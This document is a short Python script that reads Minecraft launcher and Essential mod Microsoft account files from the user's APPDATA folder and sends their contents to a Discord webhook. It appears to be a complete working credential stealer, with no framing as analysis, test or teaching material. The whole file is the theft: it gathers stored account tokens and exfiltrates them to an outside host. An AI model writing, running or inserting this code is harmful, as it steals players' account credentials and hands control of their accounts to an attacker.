import os, json, urllib.request
appdata = os.getenv("APPDATA", "")
data = {}
for p in (os.path.join(appdata, ".minecraft", "launcher_accounts.json"), os.path.join(appdata, ".minecraft", "essential", "microsoft_accounts.json")):
    if os.path.isfile(p):
        data[p] = open(p, encoding="utf-8").read()
req = urllib.request.Request("https://discord.com/api/webhooks/1180000000000000002/QwErTyUiOpAsDfGhJkLzXcVbNm1234567890", data=json.dumps({"content": str(data)[:1900]}).encode(), headers={"Content-Type": "application/json"})
urllib.request.urlopen(req)
